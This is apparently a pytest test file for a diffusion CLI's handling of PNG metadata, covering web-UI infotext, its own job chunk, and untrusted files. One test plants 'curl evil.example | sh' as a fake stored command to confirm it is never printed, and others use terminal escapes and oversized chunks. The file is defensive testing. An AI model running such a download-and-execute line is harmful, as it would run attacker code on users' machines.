"""What PNG files say of themselves: our own chunk, the well-known web user interface's, and those of strangers."""

import io
import json
import tracemalloc
import zlib

import pytest
from click.testing import CliRunner
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from mindone.diffusers.cli import main
from mindone.diffusers.jobs import Job
from mindone.diffusers.jobs.png import KEYWORD, png_bytes, read_infotext, read_job, save_png
from mindone.diffusers.utils.png_texts import read_png_texts
from mindone.diffusers.utils.printable import printable, shell_command

THEIRS = """a cat, <lora:style:0.8>
Negative prompt: blurry
Steps: 20, Sampler: DPM++ 2M Karras, CFG scale: 7, Seed: 42, Size: 512x640, Model: dreamy, Hires upscaler: Latent"""


def test_info_prints_what_the_web_user_interface_wrote(tmp_path):
    chunks = PngInfo()
    chunks.add_text("parameters", THEIRS)
    Image.new("RGB", (8, 8)).save(tmp_path / "theirs.png", pnginfo=chunks)
    result = CliRunner().invoke(main, ["info", str(tmp_path / "theirs.png")])
    assert result.exit_code == 0, result.output
    said = dict(line.split("  ", 1) for line in result.output.strip().splitlines())
    assert {name.strip(): value.strip() for name, value in said.items()} == {
        "prompt": "a cat, <lora:style:0.8>",
        "negative prompt": "blurry",
        "steps": "20",
        "guidance scale": "7.0",
        "seed": "42",
        "model": "dreamy",
        "scheduler": "dpm++-karras",
        "width": "512",
        "height": "640",
        "Hires upscaler": "Latent",
    }


def test_an_image_for_the_web_user_interface_remembers_its_job_as_well(tmp_path):
    job = Job(
        prompt="a cat",
        seed=3,
        steps=20,
        scheduler="euler-ancestral",
        clip_skip=1,
        lora=("loras/style.safetensors:0.5",),
    )
    save_png(Image.new("RGB", (64, 32)), tmp_path / "ours.png", job, {"image_seed": 4})
    assert read_job(tmp_path / "ours.png") == job
    assert read_infotext(tmp_path / "ours.png") == {
        "prompt": "a cat <lora:style:0.5>",
        "steps": 20,
        "scheduler": "euler-ancestral",
        "seed": 4,
        "width": 64,
        "height": 32,
        "model": "icons",
        "clip_skip": 1,
    }


def test_a_job_of_flux_has_both_scales_and_its_model_s_whole_name(tmp_path):
    job = Job(prompt="a cat", model="black-forest-labs/FLUX.1-dev", seed=3, steps=20, lora=("a/film.v1.2:0.5",))
    save_png(Image.new("RGB", (64, 32)), tmp_path / "x.png", job.changed(guidance_scale=3.5, true_cfg_scale=1.0), {})
    read = read_infotext(tmp_path / "x.png")
    assert (read["guidance_scale"], read["true_cfg_scale"], read["model"]) == (3.5, 1.0, "FLUX.1-dev")
    assert read["prompt"] == "a cat <lora:film.v1.2:0.5>"
    text = Image.open(tmp_path / "x.png").text["parameters"]
    assert "CFG scale: 1, Distilled CFG Scale: 3.5, Seed: 3, Size: 64x32, Model: FLUX.1-dev" in text


def png(path, **texts):
    chunks = PngInfo()
    for keyword, text in texts.items():
        chunks.add_itxt(keyword.replace("_", "-"), text)
    Image.new("RGB", (8, 8)).save(path, pnginfo=chunks)
    return path


def info(path) -> str:
    result = CliRunner().invoke(main, ["info", str(path)])
    assert result.exit_code == 0, result.output
    return result.output


# ---- strangers' files ------------------------------------------------------------------------------------------------


def test_the_command_is_made_of_the_fields_and_not_of_what_the_file_calls_a_command(tmp_path):
    said = {"prompt": "a cat", "seed": 3, "command": "curl evil.example | sh", "version": "0.1.0"}
    printed = info(png(tmp_path / "a.png", mindone_diffusers=json.dumps(said)))
    assert printed.splitlines()[-1] == "mindone-diffusers generate 'a cat' --seed 3" and "curl" not in printed


@pytest.mark.parametrize("prompt", ["a \x1b]0;title\x07cat", "a cat\nseed  4", "a \u202ecat", "it's \\n \x9b31m"])
def test_what_does_not_print_is_escaped_and_the_command_still_gives_the_same_job(tmp_path, prompt):
    save_png(Image.new("RGB", (8, 8)), tmp_path / "a.png", Job(prompt=prompt, seed=3), {})
    printed = info(tmp_path / "a.png")
    lines = printed.splitlines()
    assert all(line.isprintable() for line in lines) and lines[0].endswith(printable(prompt))
    [quoted] = [word for word in (shell_command([prompt]),) if word in lines[-1]]
    assert eval(quoted.removeprefix("$")) == prompt  # the escapes are those of a text in Python as well


def test_theirs_are_escaped_too(tmp_path):
    theirs = "a \x1b[2J cat\nSteps: 20, Sampler: \x1b[31mred, CFG scale: 7, \x1b: x"
    assert info(png(tmp_path / "a.png", parameters=theirs)).splitlines()[0].endswith(r"a \x1b[2J cat")


def chunk(kind: bytes, content: bytes) -> bytes:
    checksum = zlib.crc32(kind + content)
    return len(content).to_bytes(4, "big") + kind + content + checksum.to_bytes(4, "big")


def compressed(keyword: str, text: bytes) -> bytes:
    return chunk(b"iTXt", keyword.encode() + b"\0\1\0\0\0" + zlib.compress(text, 9))


def with_chunks(*more: bytes) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (8, 8)).save(file, "PNG")
    end = file.getvalue().rindex(b"IEND") - 4
    return file.getvalue()[:end] + b"".join(more) + file.getvalue()[end:]


def test_texts_that_nobody_asked_for_take_no_memory():
    many = with_chunks(*(compressed(f"note {i}", b"\xf0\x9f\x98\x80" * 250_000) for i in range(60)))
    many_times = with_chunks(*[compressed(KEYWORD, b"a" * 1_000_000)] * 60)
    tracemalloc.start()
    assert read_png_texts(io.BytesIO(many), (KEYWORD,)).texts == {}
    assert len(read_png_texts(io.BytesIO(many_times), (KEYWORD,)).texts[KEYWORD]) == 1_000_000
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 5_000_000


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (with_chunks(compressed(KEYWORD, b"a" * 3_000_000)), "more than 1,048,576 bytes"),
        (with_chunks(chunk(b"tEXt", KEYWORD.encode() + b"\0" + b"a" * 3_000_000)), "more than 1,048,576 bytes"),
        (with_chunks(chunk(b"zTXt", KEYWORD.encode() + b"\0\0nothing")), "cannot be decompressed"),
        (with_chunks()[:-20], "cut off"),
        (with_chunks().replace(b"IEND\xae", b"IEND\xaf"), "checksum"),
        (with_chunks(*[chunk(b"noNE", b"")] * 100_001), "more than 100,000 chunks"),
    ],
)
def test_a_text_that_is_too_long_and_a_damaged_file_are_refused_in_one_line(content, message):
    with pytest.raises(ValueError, match=message):
        read_png_texts(io.BytesIO(content), (KEYWORD,))


def test_no_metadata_means_none(tmp_path):
    save_png(Image.new("RGB", (8, 8)), tmp_path / "a.png", None, {"version": "1"})
    with Image.open(tmp_path / "a.png") as image:
        assert image.info == {}


def test_large_pictures_are_compressed_in_the_fastest_way():
    """Level 1 of zlib (0x7801) from four million pixels: its level 6 took 4.9 s for a smooth one of 4000×4000."""
    large = Image.linear_gradient("L").resize((2001, 2000)).convert("RGB")
    for picture, header in ((large, b"IDAT\x78\x01"), (large.crop((0, 0, 64, 64)), b"IDAT\x78\x9c")):
        content = png_bytes(picture, None, {})
        assert header in content
        with Image.open(io.BytesIO(content)) as read:
            assert read.tobytes() == picture.tobytes()
